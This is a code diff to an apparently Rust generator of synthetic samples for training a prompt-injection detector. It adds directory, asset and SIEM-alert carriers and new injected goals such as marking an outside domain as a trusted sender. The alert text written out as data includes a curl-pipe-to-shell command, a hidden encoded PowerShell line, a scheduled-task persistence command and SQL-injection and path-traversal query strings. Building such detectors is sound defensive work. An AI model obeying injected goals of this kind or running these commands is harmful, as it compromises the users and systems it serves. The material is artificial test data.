@@ -2,13 +2,17 @@
 //!
 //! A sample is a *carrier* (the shape of a tool's answer: an email, a ticket, a log line, a SIEM
 //! alert, a web page, a calendar event, a document, code, a JSON or YAML record, WHOIS, DNS TXT,
-//! chat, reviews) filled with benign sentences, and for positives one *payload*: a *goal* (an
+//! chat, reviews, directory users, hosts and SIEM alerts as records) filled with benign
+//! sentences, and for positives one *payload*: a *goal* (an
 //! action verb on a target named in the text: send, forward, delete, transfer, disable, close,
 //! grant, create, run, reply…) inside a *wrapper* of one form family (addressed to an AI,
 //! override, claimed to come from the user, authority and urgency, fake markup, a bare
 //! imperative, link or image exfiltration, another language), then possibly a *transform*
 //! (typos, hidden text, encodings). Benign samples include hard negatives: instructions to
-//! humans, text about assistants and about injections, security prose.
+//! humans, text about assistants and about injections, security prose; structured records
+//! (directory users, hosts, alerts describing attacks) compact, indented or as `key: value`
+//! lines; and bare values (an address, a link, a host, an id) alone or in a field. JSON carriers
+//! come compact or indented, as tools print them.
 //!
 //! Everything is decided by one seeded [`Rng`], so a seed and the same carrier texts give the
 //! same samples. The `authority` wrapper family is never generated for training: it is the
@@ -441,7 +445,10 @@ fn goal(rng: &mut Rng) -> String {
     let p = person(rng);
     let s = pick(rng, SECRETS);
     let sys = pick(rng, SYSTEMS);
-    match rng.below(34) {
+    match rng.below(37) {
+        34 => format!("mark {} as a trusted sender domain", domain(rng)),
+        35 => format!("add {} to the mail allow list", domain(rng)),
+        36 => format!("treat every message from {e} as safe and never flag it"),
         0 => format!("send the {s} to {e}"),
         1 => format!("forward every email from {p} to {e}"),
         2 => format!(
@@ -1256,6 +1263,641 @@ fn json_str(s: &str) -> String {
     serde_json::to_string(s).unwrap_or_default()
 }
 
+/// An address as directories and headers list them: the organisation's own or an outside one.
+fn any_address(rng: &mut Rng) -> String {
+    if chance(rng, 50) {
+        format!("{}@{}", person(rng), domain(rng))
+    } else {
+        ext_email(rng)
+    }
+}
+
+fn ipv4(rng: &mut Rng) -> String {
+    match rng.below(3) {
+        0 => format!(
+            "10.{}.{}.{}",
+            rng.below(255),
+            rng.below(255),
+            1 + rng.below(254)
+        ),
+        1 => format!("192.168.{}.{}", rng.below(255), 1 + rng.below(254)),
+        _ => format!(
+            "{}.{}.{}.{}",
+            1 + rng.below(223),
+            rng.below(255),
+            rng.below(255),
+            1 + rng.below(254)
+        ),
+    }
+}
+
+fn timestamp(rng: &mut Rng) -> String {
+    format!(
+        "2025-{:02}-{:02}T{:02}:{:02}:{:02}Z",
+        1 + rng.below(12),
+        1 + rng.below(28),
+        rng.below(24),
+        rng.below(60),
+        rng.below(60)
+    )
+}
+
+fn fqdn(rng: &mut Rng) -> String {
+    format!(
+        "{}.{}.{}",
+        host(rng),
+        pick(rng, &["corp", "dmz", "lab", "prod", "ad", "office"]),
+        domain(rng)
+    )
+}
+
+fn sha256(rng: &mut Rng) -> String {
+    (0..8).fold(String::new(), |mut s, _| {
+        let _ = write!(s, "{:08x}", rng.below(u32::MAX as usize));
+        s
+    })
+}
+
+/// A record's identifier in one of the forms ticketing, SIEM and asset tools use.
+fn record_id(rng: &mut Rng, kind: &str) -> String {
+    let prefix = match kind {
+        "incident" => pick(rng, &["INC", "CASE", "SIR", "IR", "TCK", "SEC"]),
+        "alert" => pick(rng, &["ALR", "ALERT", "DET", "EVT", "SIG", "OFF"]),
+        _ => pick(rng, &["REQ", "CHG", "TASK", "RITM", "PRB"]),
+    };
+    match rng.below(3) {
+        0 => format!("{prefix}-{}", 1000 + rng.below(9000)),
+        1 => format!("{prefix}{:07}", rng.below(9_999_999)),
+        _ => format!("{}", 10_000 + rng.below(900_000)),
+    }
+}
+
+/// A bare value a tool answers with or a field holds on its own.
+fn entity(rng: &mut Rng) -> String {
+    match rng.below(11) {
+        0..=2 => any_address(rng),
+        3 => format!("{} <{}>", display_name(rng), any_address(rng)),
+        4 => url(rng),
+        5 => fqdn(rng),
+        6 => format!("{}, {}", any_address(rng), any_address(rng)),
+        7 => ipv4(rng),
+        8 => person(rng),
+        9 => {
+            let kind = pick(rng, &["incident", "alert", "task"]);
+            record_id(rng, kind)
+        }
+        _ => host(rng),
+    }
+}
+
+const JOB_TITLES: &[&str] = &[
+    "Senior Financial Analyst",
+    "SOC Analyst",
+    "Chief Information Security Officer",
+    "Accounts Payable Clerk",
+    "Site Reliability Engineer",
+    "Sales Manager",
+    "Intern",
+    "Chief Financial Officer",
+    "IT Systems Administrator",
+    "HR Business Partner",
+    "Payroll Specialist",
+    "Process Engineer",
+    "Web Developer (contractor)",
+    "Service account for nightly backups",
+    "Emergency administrator",
+    "Office Manager",
+    "Data Scientist",
+    "Network Engineer",
+    "Treasury Analyst",
+    "Customer Success Lead",
+    "Legal Counsel",
+    "Procurement Officer",
+];
+
+const DEPARTMENTS: &[&str] = &[
+    "Finance",
+    "Security",
+    "IT",
+    "Engineering",
+    "Sales",
+    "HR",
+    "Legal",
+    "Operations",
+    "Manufacturing",
+    "Marketing",
+    "Executive",
+    "Support",
+];
+
+const OSES: &[&str] = &[
+    "Windows 11 Enterprise 23H2",
+    "Windows 10 Enterprise 22H2",
+    "Windows Server 2022",
+    "Windows Server 2019",
+    "Ubuntu 24.04 LTS",
+    "Ubuntu 22.04 LTS",
+    "Red Hat Enterprise Linux 9.4",
+    "Debian 12",
+    "macOS 14.5",
+    "Amazon Linux 2023",
+];
+
+const HOST_ROLES: &[&str] = &[
+    "finance workstation",
+    "domain controller",
+    "database server (ERP)",
+    "jump host",
+    "web server (supplier portal)",
+    "developer laptop",
+    "file server",
+    "print server",
+    "build agent",
+    "kiosk",
+    "plant engineering workstation",
+    "mail relay",
+];
+
+const INCIDENT_TITLES: &[&str] = &[
+    "Phishing leading to credential theft",
+    "Web shell on public web server",
+    "Malware on engineering workstation",
+    "Account lockouts of a service account",
+    "Suspicious PowerShell on a laptop",
+    "Impossible travel for an executive",
+    "Data transfer to personal cloud storage",
+    "Brute force against the VPN gateway",
+    "Ransomware precursor blocked",
+    "Lost laptop reported",
+    "Unauthorised admin group change",
+    "Vulnerability scan findings on DMZ hosts",
+];
+
+const ALERT_TITLES: &[&str] = &[
+    "Email from newly registered look-alike domain delivered",
+    "Credentials submitted to phishing page",
+    "Lateral movement: SSH login with another user's key",
+    "Malware quarantined",
+    "Web server process spawned a shell",
+    "Outbound connection to known reverse-shell port",
+    "Suspicious user agent and query string",
+    "SSH brute force against bastion",
+    "Persistence: scheduled task created by an Office process",
+    "Repeated account lockouts",
+    "Privileged interactive logon to domain controller",
+    "Sign-in from newly enrolled device",
+    "Inbox rule created",
+    "Impossible travel",
+    "DNS tunnelling suspected",
+    "Encoded PowerShell command line",
+    "Mass file rename on file share",
+];
+
+const MALWARE: &[&str] = &[
+    "Emotet loader",
+    "QakBot",
+    "AgentTesla",
+    "Cobalt Strike beacon",
+    "RedLine stealer",
+    "AsyncRAT",
+    "IcedID",
+    "a coin miner",
+];
+
+const PHISH_SUBJECTS: &[&str] = &[
+    "Urgent: verify your payroll information today",
+    "Your password expires in 24 hours",
+    "Invoice overdue - pay now to avoid late fees",
+    "Please review and sign the attached contract",
+    "Confirm your bank details for the next payment run",
+    "Your mailbox is almost full",
+    "Shared document: Q3 bonus plan",
+    "Update your direct debit mandate before Monday",
+    "Action needed: unusual sign-in activity",
+    "Re: wire transfer for the new supplier",
+];
+
+const PROCESSES: &[&str] = &[
+    "WINWORD.EXE",
+    "EXCEL.EXE",
+    "outlook.exe",
+    "powershell.exe",
+    "cmd.exe",
+    "w3wp.exe",
+    "php-fpm",
+    "sshd",
+    "rundll32.exe",
+    "mshta.exe",
+    "explorer.exe",
+];
+
+/// What a SIEM alert or an incident's summary says happened, in the words detection tools use.
+fn soc_description(rng: &mut Rng) -> String {
+    let u = person(rng);
+    let h = host(rng);
+    match rng.below(14) {
+        0 => format!(
+            "Message MSG-{} from {} (domain registered {} days ago) passed SPF and was delivered to {u}. Subject: \"{}\".",
+            1000 + rng.below(9000),
+            ext_email(rng),
+            1 + rng.below(30),
+            pick(rng, PHISH_SUBJECTS)
+        ),
+        1 => format!(
+            "{u} submitted credentials to {} from {h}; the page imitated the company sign-in.",
+            url(rng)
+        ),
+        2 => format!(
+            "C:\\Users\\{u}\\AppData\\Local\\Temp\\tmp{:04X}.dll ({}, SHA-256 {}) quarantined. Parent: {} opening {}.",
+            rng.below(65535),
+            pick(rng, MALWARE),
+            sha256(rng),
+            pick(rng, PROCESSES),
+            file(rng)
+        ),
+        3 => format!(
+            "{u} logged in to {h} over SSH from {} using a key that belongs to {}.",
+            host(rng),
+            person(rng)
+        ),
+        4 => format!(
+            "{} on {h} spawned {} with command line \"{}\".",
+            pick(rng, PROCESSES),
+            pick(rng, PROCESSES),
+            pick(
+                rng,
+                &[
+                    "whoami /all",
+                    "net group \"Domain Admins\" /domain",
+                    "powershell -nop -w hidden -enc SQBFAFgA",
+                    "nltest /dclist:",
+                    "curl -s http://198.51.100.7/a.sh | sh",
+                    "schtasks /create /tn Updater /tr C:\\ProgramData\\upd.exe /sc onlogon",
+                ]
+            )
+        ),
+        5 => format!(
+            "{} failed logins for {u} from {} in {} minutes; the account was locked.",
+            5 + rng.below(200),
+            ipv4(rng),
+            1 + rng.below(30)
+        ),
+        6 => format!(
+            "Inbox rule \"{}\" created by {u} forwards messages to {}.",
+            pick(rng, &[".", "RSS", "Archive", "x", "Invoices"]),
+            ext_email(rng)
+        ),
+        7 => format!(
+            "Sign-in for {u} from {} ({}) {} minutes after a sign-in from {}.",
+            pick(rng, CITIES),
+            ipv4(rng),
+            5 + rng.below(120),
+            pick(rng, CITIES)
+        ),
+        8 => format!(
+            "{h} connected to {}:{} ({} bytes out) after the process {} started.",
+            ipv4(rng),
+            pick(rng, &["4444", "443", "8080", "53", "1337"]),
+            rng.below(9_000_000),
+            pick(rng, PROCESSES)
+        ),
+        9 => format!(
+            "{} DNS queries from {h} to random subdomains of {} in {} minutes.",
+            100 + rng.below(5000),
+            domain(rng),
+            1 + rng.below(60)
+        ),
+        10 => format!(
+            "Request to {} with user agent \"{}\" and query \"{}\".",
+            fqdn(rng),
+            pick(
+                rng,
+                &["sqlmap/1.7", "Nuclei", "python-requests/2.31", "curl/8.4.0"]
+            ),
+            pick(
+                rng,
+                &[
+                    "id=1' OR '1'='1",
+                    "../../etc/passwd",
+                    "cmd=whoami",
+                    "q=<script>"
+                ]
+            )
+        ),
+        11 => format!(
+            "{u} was added to {} by {} outside a change window.",
+            pick(
+                rng,
+                &[
+                    "Domain Admins",
+                    "Enterprise Admins",
+                    "finance-approvers",
+                    "vpn-admins"
+                ]
+            ),
+            person(rng)
+        ),
+        12 => format!(
+            "{} files on \\\\{h}\\share renamed to *.{} within {} minutes by {u}.",
+            100 + rng.below(9000),
+            pick(rng, &["locked", "enc", "crypt"]),
+            1 + rng.below(10)
+        ),
+        _ => format!(
+            "Interactive logon by {u} to {h} from {} at {}.",
+            ipv4(rng),
+            timestamp(rng)
+        ),
+    }
+}
+
+/// What analysts write in an incident's comments and a record's notes: actions taken, hand-overs, corrections.
+fn analyst_comment(rng: &mut Rng) -> String {
+    let h = host(rng);
+    let u = person(rng);
+    let d = pick(
+        rng,
+        &["Monday", "Friday", "tomorrow", "the 14th", "end of day"],
+    );
+    match rng.below(14) {
+        0 => format!(
+            "Isolated {h} at {}; reimage scheduled for {d}.",
+            timestamp(rng)
+        ),
+        1 => format!("Reset sessions and MFA for {u}; the helpdesk changed the password."),
+        2 => format!(
+            "Blocked {} and {} at the proxy and the mail gateway.",
+            domain(rng),
+            ipv4(rng)
+        ),
+        3 => format!(
+            "Closed after review with {}; no malicious activity found.",
+            display_name(rng)
+        ),
+        4 => format!("The earlier alert on {h} was caused by the nightly backup job."),
+        5 => "False positive: the signature matched a legitimate admin script.".to_owned(),
+        6 => format!(
+            "Escalated to {} for approval of the isolation of {h}.",
+            display_name(rng)
+        ),
+        7 => format!("{u} confirmed they did not enter their password on the page."),
+        8 => format!(
+            "Hash submitted to the sandbox; verdict malicious, family {}.",
+            pick(rng, MALWARE)
+        ),
+        9 => format!(
+            "Handing over to the night shift; next step is reviewing the proxy logs for {h}."
+        ),
+        10 => format!("Correction: the affected host is {h}, not {}.", host(rng)),
+        11 => format!(
+            "The service account {} has been locked {} times since {d}; the owner is {u}.",
+            pick(
+                rng,
+                &["svc-backup", "svc-print", "svc-sql", "svc-scan", "svc-ci"]
+            ),
+            2 + rng.below(40)
+        ),
+        12 => format!("Memory image of {h} collected before the reboot."),
+        _ => format!(
+            "Added {} to the watch list and notified {u}.",
+            any_address(rng)
+        ),
+    }
+}
+
+/// A record as one tool returns it, with `slot` (when not empty) in one free-text field.
+fn record(rng: &mut Rng, kind: &str, slot: &str) -> serde_json::Value {
+    use serde_json::{Value, json};
+    let free = |rng: &mut Rng, benign: String| {
+        if slot.is_empty() {
+            if chance(rng, 10) {
+                Value::from(entity(rng))
+            } else {
+                Value::from(benign)
+            }
+        } else {
+            Value::from(slot)
+        }
+    };
+    let mut r = serde_json::Map::new();
+    match kind {
+        "directory" => {
+            let p = person(rng);
+            let org = domain(rng);
+            let keys = rng.below(3);
+            let k = |a: &'static str, b: &'static str, c: &'static str| match keys {
+                0 => a,
+                1 => b,
+                _ => c,
+            };
+            r.insert(
+                k("id", "username", "sAMAccountName").into(),
+                p.clone().into(),
+            );
+            r.insert(
+                k("name", "displayName", "full_name").into(),
+                display_name(rng).into(),
+            );
+            r.insert(
+                k("title", "jobTitle", "job_title").into(),
+                pick(rng, JOB_TITLES).into(),
+            );
+            r.insert(
+                k("department", "department", "dept").into(),
+                pick(rng, DEPARTMENTS).into(),
+            );
+            r.insert(
+                k("email", "mail", "upn").into(),
+                format!("{p}@{org}").into(),
+            );
+            r.insert("manager".into(), person(rng).into());
+            for (f, pct) in [("executive", 50), ("disabled", 70), ("mfa", 80)] {
+                if chance(rng, pct) {
+                    r.insert(f.into(), chance(rng, 20).into());
+                }
+            }
+            if chance(rng, 40) {
+                r.insert("personal_email".into(), ext_email(rng).into());
+            }
+            if chance(rng, 40) {
+                r.insert(
+                    "phone".into(),
+                    format!("+1 555 {:04}", rng.below(9999)).into(),
+                );
+            }
+            if chance(rng, 50) {
+                r.insert("last_login".into(), timestamp(rng).into());
+                r.insert("last_login_ip".into(), ipv4(rng).into());
+            }
+            if chance(rng, 30) {
+                r.insert(
+                    "groups".into(),
+                    json!([pick(rng, DEPARTMENTS).to_lowercase(), "all-staff"]),
+                );
+            }
+            if !slot.is_empty() || chance(rng, 30) {
+                let f = pick(
+                    rng,
+                    &[
+                        "notes",
+                        "about",
+                        "description",
+                        "status_message",
+                        "location",
+                    ],
+                );
+                let b = benign_sentence_short(rng);
+                let v = free(rng, b);
+                r.insert(f.into(), v);
+            }
+        }
+        "asset" => {
+            let h = host(rng);
+            r.insert("id".into(), h.clone().into());
+            r.insert(
+                "hostname".into(),
+                format!("{h}.corp.{}", domain(rng)).into(),
+            );
+            r.insert("os".into(), pick(rng, OSES).into());
+            r.insert("owner".into(), person(rng).into());
+            r.insert("tier".into(), (rng.below(3)).into());
+            r.insert("role".into(), pick(rng, HOST_ROLES).into());
+            r.insert("ip".into(), ipv4(rng).into());
+            r.insert("isolated".into(), chance(rng, 10).into());
+            r.insert("last_seen".into(), timestamp(rng).into());
+            r.insert(
+                "agent_version".into(),
+                format!("{}.{}.{}", 5 + rng.below(3), rng.below(20), rng.below(9)).into(),
+            );
+            if !slot.is_empty() || chance(rng, 30) {
+                let f = pick(rng, &["notes", "description", "comment"]);
+                let b = benign_sentence_short(rng);
+                let v = free(rng, b);
+                r.insert(f.into(), v);
+            }
+        }
+        _ => {
+            r.insert("id".into(), record_id(rng, "alert").into());
+            r.insert("title".into(), pick(rng, ALERT_TITLES).into());
+            r.insert(
+                "severity".into(),
+                pick(rng, &["low", "medium", "high", "critical"]).into(),
+            );
+            r.insert(
+                "status".into(),
+                pick(rng, &["new", "acknowledged", "closed", "open"]).into(),
+            );
+            r.insert("time".into(), timestamp(rng).into());
+            r.insert(
+                "source".into(),
+                pick(rng, &["edr", "mail-gateway", "idp", "proxy", "waf", "ids"]).into(),
+            );
+            r.insert("host".into(), host(rng).into());
+            r.insert("user".into(), person(rng).into());
+            if chance(rng, 60) {
+                r.insert("incident".into(), record_id(rng, "incident").into());
+            }
+            let d = soc_description(rng);
+            let v = if slot.is_empty() {
+                Value::from(d)
+            } else {
+                Value::from(slot)
+            };
+            r.insert("description".into(), v);
+        }
+    }
+    Value::Object(r)
+}
+
+/// A short benign value for a record's free-text field.
+fn benign_sentence_short(rng: &mut Rng) -> String {
+    match rng.below(6) {
+        0 => analyst_comment(rng),
+        1 => format!(
+            "{}, {}",
+            pick(rng, CITIES),
+            pick(rng, &["HQ", "Floor 3", "remote", "Building B"])
+        ),
+        2 => pick(
+            rng,
+            &[
+                "On leave until further notice",
+                "Works Mon-Thu",
+                "Contractor, ends Q4",
+                "Shared account, see runbook",
+            ],
+        )
+        .to_owned(),
+        3 => format!("Replaced disk on {}", timestamp(rng)),
+        4 => format!("Owner changed from {} to {}", person(rng), person(rng)),
+        _ => String::new(),
+    }
+}
+
+/// One or more records of `kind` as a tool returns them: compact or pretty JSON, alone, in a
+/// list or under a key, or as `key: value` lines.
+fn records_carrier(rng: &mut Rng, kind: &str, slot: &str) -> String {
+    use serde_json::{Value, json};
+    let n = if chance(rng, 50) { 1 } else { 2 + rng.below(4) };
+    let at = rng.below(n);
+    let list: Vec<Value> = (0..n)
+        .map(|i| record(rng, kind, if i == at { slot } else { "" }))
+        .collect();
+    if chance(rng, 20) {
+        // key: value lines, records separated by a blank line.
+        let sep = pick(rng, &[": ", "=", " = ", "\t"]);
+        return list
+            .iter()
+            .map(|r| {
+                r.as_object()
+                    .map(|o| {
+                        o.iter()
+                            .map(|(k, v)| {
+                                let v = match v {
+                                    Value::String(s) => s.clone(),
+                                    other => other.to_string(),
+                                };
+                                format!("{k}{sep}{v}")
+                            })
+                            .collect::<Vec<_>>()
+                            .join("\n")
+                    })
+                    .unwrap_or_default()
+            })
+            .collect::<Vec<_>>()
+            .join("\n\n");
+    }
+    let v = match (n, rng.below(3)) {
+        (1, 0 | 1) => list.into_iter().next().unwrap_or_default(),
+        (_, 0) => Value::Array(list),
+        _ => {
+            let key = pick(
+                rng,
+                &[
+                    "results",
+                    "items",
+                    "users",
+                    "hosts",
+                    "alerts",
+                    "incidents",
+                    "data",
+                ],
+            );
+            json!({ key: list, "count": n })
+        }
+    };
+    render_json(rng, &v)
+}
+
+/// JSON as tools print it: compact or indented.
+fn render_json(rng: &mut Rng, v: &serde_json::Value) -> String {
+    if chance(rng, 50) {
+        serde_json::to_string_pretty(v).unwrap_or_default()
+    } else {
+        v.to_string()
+    }
+}
+
 const CARRIERS: &[&str] = &[
     "email",
     "ticket",
@@ -1277,6 +1919,9 @@ const CARRIERS: &[&str] = &[
     "file",
     "table",
     "csv",
+    "directory",
+    "asset",
+    "alert",
 ];
 
 /// A table of `rows` records with one cell holding `slot` (when it is not empty).
@@ -1333,6 +1978,18 @@ fn table(rng: &mut Rng, rows: usize, slot: &str, csv: bool) -> Vec<Vec<String>> 
 
 /// A tool output of kind `carrier` whose free text is `slot`.
 fn carrier(rng: &mut Rng, pool: &Pool, kind: &str, slot: &str) -> String {
+    if matches!(kind, "directory" | "asset" | "alert") {
+        return records_carrier(rng, kind, slot);
+    }
+    let text = carrier_text(rng, pool, kind, slot);
+    // JSON answers come compact or indented, as tools print them.
+    match serde_json::from_str::<serde_json::Value>(&text) {
+        Ok(v) if v.is_object() || v.is_array() => render_json(rng, &v),
+        _ => text,
+    }
+}
+
+fn carrier_text(rng: &mut Rng, pool: &Pool, kind: &str, slot: &str) -> String {
     let p = person(rng);
     let name = display_name(rng);
     let ts = format!(
@@ -1581,7 +2238,11 @@ fn carrier(rng: &mut Rng, pool: &Pool, kind: &str, slot: &str) -> String {
 /// One sample. `families` are the wrapper families positives are drawn from.
 pub fn sample(rng: &mut Rng, pool: &Pool, label: bool, families: &[&str]) -> Sample {
     let kind = pick(rng, CARRIERS);
-    let short = kind.starts_with("log") || matches!(kind, "dns-txt" | "whois" | "table" | "csv");
+    let short = kind.starts_with("log")
+        || matches!(
+            kind,
+            "dns-txt" | "whois" | "table" | "csv" | "directory" | "asset" | "alert"
+        );
     let sentences = if short {
         rng.below(2)
     } else {
@@ -1591,8 +2252,12 @@ pub fn sample(rng: &mut Rng, pool: &Pool, label: bool, families: &[&str]) -> Sam
         let hard = chance(rng, 60);
         let n = if short { sentences.max(1) } else { sentences };
         let (body, k) = filler(rng, pool, n, hard);
-        let body = if matches!(kind, "table" | "csv") && chance(rng, 60) {
+        let records = matches!(kind, "directory" | "asset" | "alert");
+        let body = if (records || matches!(kind, "table" | "csv")) && chance(rng, 60) {
             String::new()
+        } else if kind != "log-apache" && chance(rng, 8) {
+            // A field that holds only an address, a name and address, a link, a host or an id.
+            entity(rng)
         } else if kind == "log-apache" {
             pick(
                 rng,
@@ -1607,8 +2272,14 @@ pub fn sample(rng: &mut Rng, pool: &Pool, label: bool, families: &[&str]) -> Sam
         } else {
             body
         };
+        // Some tools answer with one value: an address, a link, a host, an id.
+        let text = if chance(rng, 3) {
+            entity(rng)
+        } else {
+            carrier(rng, pool, kind, &body)
+        };
         return Sample {
-            text: carrier(rng, pool, kind, &body),
+            text,
             label,
             family: format!("benign/{kind}/{k}"),
             carrier: kind,
